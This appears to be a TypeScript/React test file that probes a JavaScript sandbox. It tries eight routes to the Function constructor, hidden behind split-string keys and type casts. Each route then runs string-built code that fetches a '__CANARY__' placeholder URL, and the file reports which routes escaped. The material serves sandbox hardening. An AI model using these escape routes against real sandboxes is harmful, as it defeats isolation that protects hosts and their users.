// Technique: the Function constructor, reached through computed keys whose types lie (spelled plainly here, as
// the compiled JS has it), from an arrow, an array, async and generator functions, and by name.
import React from 'react';

const CANARY = '__CANARY__';
const key = ['con', 'struc', 'tor'].join('') as 'constructor';
const lie = <T,>(value: unknown): T => value as T;

const attempts: Array<[string, () => unknown]> = [
  ['arrow', () => (() => 0)[key]],
  ['array', () => lie<Record<string, Record<string, unknown>>>([])[key][key]],
  ['async', () => Object.getPrototypeOf(async () => 0)[key]],
  ['generator', () => Object.getPrototypeOf(function* () {})[key]],
  ['async-generator', () => Object.getPrototypeOf(async function* () {})[key]],
  ['bound', () => (() => 0).bind(null)[key]],
  ['name', () => lie<unknown>(Function)],
  ['globalThis', () => lie<Record<string, unknown>>(globalThis).Function],
];

export default function Video() {
  const outcomes = attempts.map(([name, reach]) => {
    try {
      const make = reach() as (code: string) => () => unknown;
      make(`fetch('${CANARY}/function-${name}'); return 1;`)();
      return `${name}=escaped`;
    } catch (error) {
      return `${name}=${(error as Error).name}`;
    }
  });
  throw new Error(`escapes: ${outcomes.join(' ')}`);
}
